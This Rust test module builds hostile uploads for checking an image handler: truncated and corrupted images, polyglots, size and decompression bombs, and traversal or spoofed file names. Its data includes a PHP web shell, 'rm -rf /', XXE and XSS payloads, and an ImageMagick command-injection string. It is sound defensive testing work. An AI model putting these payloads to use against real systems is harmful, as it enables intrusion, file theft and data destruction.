//! Hostile files, made here so that none has to lie in the repository.

use super::super::photos::{gif, jpeg, png, segment, webp, with_exif};
use std::sync::LazyLock;

/// One of them.
pub struct Hostile {
    pub what: String,
    /// As its sender calls it.
    pub name: Vec<u8>,
    pub bytes: Vec<u8>,
    /// It can be no picture.
    pub refused: bool,
}

fn one(what: impl Into<String>, bytes: impl Into<Vec<u8>>) -> Hostile {
    Hostile { what: what.into(), name: b"photo.jpg".to_vec(), bytes: bytes.into(), refused: false }
}

fn refused(what: impl Into<String>, bytes: impl Into<Vec<u8>>) -> Hostile {
    Hostile { refused: true, ..one(what, bytes) }
}

/// Made once: some of them take a while.
pub static ALL: LazyLock<Vec<Hostile>> = LazyLock::new(all);

fn all() -> Vec<Hostile> {
    [cut_off(), spoilt(), no_pictures(), two_in_one(), huge(), bombs(), named(), tiny()].into_iter().flatten().collect()
}

fn good() -> [(&'static str, Vec<u8>); 4] {
    [("jpeg", jpeg(400, 300)), ("png", png(400, 300)), ("webp", webp(400, 300)), ("gif", gif(400, 300, 2))]
}

fn cut_off() -> Vec<Hostile> {
    let cut = |(kind, file): (&str, Vec<u8>)| -> Vec<Hostile> {
        (1..10)
            .map(|tenth| one(format!("{kind} cut off at {tenth} tenths"), &file[..file.len() * tenth / 10]))
            .collect()
    };
    good().into_iter().flat_map(cut).collect()
}

/// Single bytes turned over, the same ones each time.
fn spoilt() -> Vec<Hostile> {
    let spoil = |(kind, file): (&str, Vec<u8>)| -> Vec<Hostile> {
        let at = |n: usize| {
            let mut file = file.clone();
            for step in 0..8 {
                let place = (n * 131 + step * 977 + 20) % file.len();
                file[place] ^= 0x5A;
            }
            one(format!("{kind} spoilt, {n}"), file)
        };
        (0..6).map(at).collect()
    };
    good().into_iter().flat_map(spoil).collect()
}

fn no_pictures() -> Vec<Hostile> {
    let svg = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>";
    let entity = "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;</svg>";
    let bomb = "<!DOCTYPE l [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]><svg>&b;</svg>";
    [
        ("nothing", &b""[..]),
        ("one byte", b"\xFF"),
        ("twelve NULs", b"\0\0\0\0\0\0\0\0\0\0\0\0"),
        ("HTML", b"<!DOCTYPE html><html><script>alert(1)</script>"),
        ("SVG with a script", svg.as_bytes()),
        ("SVG with an outer entity", entity.as_bytes()),
        ("SVG with entities in entities", bomb.as_bytes()),
        ("PHP", b"<?php system($_GET['c']); ?>"),
        ("a shell script", b"#!/bin/sh\nrm -rf /"),
        ("JavaScript", b"alert(document.cookie)"),
        ("PDF", b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript>>>>"),
        ("ZIP", b"PK\x03\x04\x14\0\0\0\x08\0"),
        ("a Windows program", b"MZ\x90\0\x03\0\0\0\x04\0\0\0"),
        ("a Linux program", b"\x7FELF\x02\x01\x01\0\0\0\0\0"),
        ("HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
        ("AVIF", b"\0\0\0\x18ftypavif\0\0\0\0mif1avif"),
        ("MP4", b"\0\0\0\x18ftypisom\0\0\x02\0isomiso2"),
        ("BMP", b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\xFF\xFF\xFF\x7F\xFF\xFF\xFF\x7F"),
        ("TIFF", b"II*\0\x08\0\0\0\x01\0\0\x01\x04\0\x01\0\0\0\xFF\xFF\xFF\x7F"),
        ("ICO", b"\0\0\x01\0\x01\0\0\0\0\0\x01\0\x20\0\xFF\xFF\xFF\xFF\x16\0\0\0"),
        ("PSD", b"8BPS\0\x01\0\0\0\0\0\0\0\x03\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\0\x08\0\x03"),
        ("PostScript", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file"),
        (
            "what virus scanners are tried with",
            b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
        ),
        ("an ImageMagick script", b"push graphic-context\nfill 'url(https://x.test/`id`)'\npop graphic-context"),
        ("a JPEG's first bytes alone", b"\xFF\xD8\xFF\xE0\0\x10JFIF\0"),
        ("a PNG's first bytes alone", b"\x89PNG\r\n\x1a\n"),
        ("a WebP's first bytes alone", b"RIFF\xFF\xFF\xFF\xFFWEBPVP8 "),
        ("a GIF that is a script", b"GIF89a=1;alert(document.domain)//"),
    ]
    .into_iter()
    .map(|(what, bytes)| refused(what, bytes))
    .collect()
}

/// A picture, and something else for whoever reads it otherwise.
fn two_in_one() -> Vec<Hostile> {
    let (photo, script) = (jpeg(400, 300), &b"<script>alert(1)</script><?php system('id'); ?>"[..]);
    let zip = b"PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0x.phpPK\x05\x06";
    vec![
        one("JPEG and ZIP", [&photo[..], zip].concat()),
        one("JPEG and HTML behind it", [&photo[..], script].concat()),
        one("JPEG with a script in its comment", segment(&photo, 0xFE, script)),
        one("JPEG with a script in a profile", segment(&photo, 0xE2, &[b"ICC_PROFILE\0\x01\x01", script].concat())),
        one("JPEG that notes where it was taken", with_exif(&photo, 1, "GPS 21.39N 103.01E")),
        one("JPEG with a script in what the camera noted", with_exif(&photo, 200, "<script>alert(1)</script>")),
        one("PNG and HTML behind it", [&png(400, 300)[..], script].concat()),
        one("PNG with a script in its text", with_chunk(&png(400, 300), b"tEXt", &[b"Title\0", script].concat())),
        one("GIF and JavaScript", [&gif(400, 300, 1)[..], b"/*", script].concat()),
        one("WebP and HTML behind it", [&webp(400, 300)[..], script].concat()),
        refused("PDF and JPEG", [&b"%PDF-1.4\n"[..], &photo].concat()),
    ]
}

/// Sides that nobody could hold in memory, said in a few bytes.
fn huge() -> Vec<Hostile> {
    let head = |w: u32, h: u32, depth: u8, colour: u8| {
        let head = [&w.to_be_bytes()[..], &h.to_be_bytes(), &[depth, colour, 0, 0, 0]].concat();
        [&b"\x89PNG\r\n\x1a\n"[..], &chunk(b"IHDR", &head), &chunk(b"IDAT", &zeros(1 << 16)), &chunk(b"IEND", b"")]
            .concat()
    };
    let mut wide = jpeg(400, 300);
    let frame = wide.windows(2).position(|pair| pair == [0xFF, 0xC0]).unwrap();
    wide[frame + 5..frame + 9].copy_from_slice(&[0xFF; 4]);
    let mut screen = gif(400, 300, 1);
    screen[6..10].copy_from_slice(&[0xFF; 4]);
    let vp8x = b"RIFF\x16\0\0\0WEBPVP8X\x0A\0\0\0\x10\0\0\0\xFF\xFF\xFF\xFF\xFF\xFF";
    vec![
        refused("PNG of 50,000 by 50,000", head(50_000, 50_000, 8, 2)),
        refused("PNG of 2,000,000,000 by 1", head(2_000_000_000, 1, 1, 0)),
        refused("PNG of 24,000 by 24,000 in one bit", head(24_000, 24_000, 1, 0)),
        refused("PNG of 7,000 by 7,000 in 64 bits", head(7_000, 7_000, 16, 6)),
        refused("PNG of no size", head(0, 0, 8, 2)),
        refused("JPEG of 65,535 by 65,535", wide),
        refused("GIF of 65,535 by 65,535", screen),
        refused("WebP of 16,777,216 by 16,777,216", &vp8x[..]),
    ]
}

/// A little that becomes a lot.
fn bombs() -> Vec<Hostile> {
    let small = png(400, 300);
    let packed = zeros(100 << 20);
    let frame = [&[0; 4][..], &1_u32.to_be_bytes(), &1_u32.to_be_bytes(), &[0; 12], &[0, 0]].concat();
    let mut frames = chunk(b"acTL", &[&10_000_u32.to_be_bytes()[..], &[0; 4]].concat());
    for n in 0..10_000_u32 {
        frames.extend(chunk(b"fcTL", &[&n.to_be_bytes()[..], &frame[4..]].concat()));
    }
    let photo = jpeg(400, 300);
    let scan = photo.windows(2).position(|pair| pair == [0xFF, 0xDA]).unwrap();
    let scans = photo[scan..photo.len() - 2].repeat(2_000);
    let comment = segment(&photo, 0xFE, &[b'x'; 200])[2..206].repeat(3_000);
    vec![
        one("PNG of 48 million equal pixels", plain_png(8_000, 6_000)),
        refused("PNG of 60 million equal pixels", plain_png(10_000, 6_000)),
        one("PNG with 100 MB in a packed text", with_chunk(&small, b"zTXt", &[b"Comment\0\0", &packed[..]].concat())),
        one(
            "PNG with 100 MB in a packed text of another kind",
            with_chunk(&small, b"iTXt", &[b"Comment\0\x01\0\0\0", &packed[..]].concat()),
        ),
        one("PNG with 100 MB in its profile", with_chunk(&small, b"iCCP", &[b"p\0\0", &packed[..]].concat())),
        one("PNG of 10,000 frames", with_parts(&small, &frames)),
        one("PNG with 100 MB behind its pixels", with_chunk(&small, b"IDAT", &packed)),
        refused("JPEG drawn 2,000 times", [&photo[..scan], &scans, &photo[photo.len() - 2..]].concat()),
        one("JPEG of 3,000 comments", [&photo[..2], &comment, &photo[2..]].concat()),
        one("JPEG of 48 million pixels", jpeg(8_000, 6_000)),
        one("GIF of 300 frames", gif(200, 200, 300)),
    ]
}

fn named() -> Vec<Hostile> {
    let names: [&[u8]; 12] = [
        b"../../../../etc/passwd",
        b"..\\..\\windows\\system32\\x.dll",
        b"/etc/cron.d/x",
        b"C:\\xoe.db",
        b"a\0.jpg",
        b"photo.jpg\x01\x7F\x1B[2J",
        b"photo.php.jpg",
        b".htaccess",
        b"\xFF\xFE\xFD",
        "anh\u{202e}gpj.exe".as_bytes(),
        b"<script>alert(1)</script>.jpg",
        &[b'a'; 4_000],
    ];
    let good = |(n, name): (usize, &&[u8])| Hostile {
        name: name.to_vec(),
        ..one(format!("called {:?}", String::from_utf8_lossy(&name[..name.len().min(30)])), jpeg(300 + n as u32, 300))
    };
    names.iter().enumerate().map(good).collect()
}

fn tiny() -> Vec<Hostile> {
    vec![
        refused("GIF of one pixel", gif(1, 1, 1)),
        refused("PNG of one pixel", png(1, 1)),
        refused("JPEG of 1 by 8,000", jpeg(1, 8_000)),
        refused("PNG of 20,000 by 20", png(20_000, 20)),
    ]
}

/// A zlib stream of so many zeros, as a PNG packs them.
fn zeros(bytes: u32) -> Vec<u8> {
    let file = plain_png(1 << 10, bytes >> 10);
    let (mut at, mut packed) = (8, Vec::new());
    while at + 12 <= file.len() {
        let length = u32::from_be_bytes([file[at], file[at + 1], file[at + 2], file[at + 3]]) as usize;
        if &file[at + 4..at + 8] == b"IDAT" {
            packed.extend(&file[at + 8..at + 8 + length]);
        }
        at += 12 + length;
    }
    packed
}

fn plain_png(width: u32, height: u32) -> Vec<u8> {
    let mut file = Vec::new();
    let mut encoder = png::Encoder::new(&mut file, width, height);
    encoder.set_color(png::ColorType::Grayscale);
    encoder.set_filter(png::Filter::NoFilter);
    let mut writer = encoder.write_header().unwrap();
    writer.write_image_data(&vec![0; (width * height) as usize]).unwrap();
    writer.finish().unwrap();
    file
}

fn chunk(kind: &[u8; 4], content: &[u8]) -> Vec<u8> {
    let said = [&kind[..], content].concat();
    let sum = said.iter().fold(u32::MAX, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| (sum >> 1) ^ (0xEDB8_8320 & (sum & 1).wrapping_neg()))
    });
    let length = u32::try_from(content.len()).unwrap().to_be_bytes();
    [&length[..], &said, &(!sum).to_be_bytes()].concat()
}

fn with_chunk(png: &[u8], kind: &[u8; 4], content: &[u8]) -> Vec<u8> {
    with_parts(png, &chunk(kind, content))
}

/// A PNG with more between its head and its pixels; what unpacks to too much comes behind them.
fn with_parts(png: &[u8], parts: &[u8]) -> Vec<u8> {
    let at = if &parts[4..8] == b"IDAT" { png.len() - 12 } else { 33 };
    [&png[..at], parts, &png[at..]].concat()
}
